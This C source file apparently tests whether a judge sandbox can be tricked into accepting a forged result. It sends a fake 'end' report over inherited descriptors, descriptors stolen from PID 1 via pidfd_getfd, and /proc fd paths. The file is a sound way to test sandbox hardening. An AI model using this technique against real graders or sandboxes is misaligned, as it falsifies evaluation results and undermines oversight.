// due: Accepted
// The first process of the box reports how the program ended, over a socket: a program that could take that socket from
// it, or find it among its own descriptors, could report what it likes, for itself or for the next test.
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int sent;

static void forge(int fd) {
    const char *report = "end 0 1.0 2.0 0.000001 1\n";
    if (fd > 2 && send(fd, report, strlen(report), MSG_NOSIGNAL | MSG_DONTWAIT) > 0)
        sent++;
}

int main(void) {
    for (int fd = 3; fd < 1024; fd++)
        forge(fd);
    for (int process = 1; process <= 2; process++) {
        int target = syscall(434, process, 0); /* pidfd_open */
        for (int fd = 0; process == 1 && target >= 0 && fd < 256; fd++)
            forge(syscall(438, target, fd, 0)); /* pidfd_getfd */
        for (int fd = 0; fd < 256; fd++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%d", 3 - process, fd);
            FILE *file = process == 2 ? fopen(path, "r+") : NULL;
            if (file != NULL && fileno(file) > 2) {
                forge(fileno(file));
                fclose(file);
            }
        }
    }
    int a, b;
    if (scanf("%d %d", &a, &b) != 2)
        return 1;
    printf("%d\n", sent ? -1 : a + b);
    return 0;
}
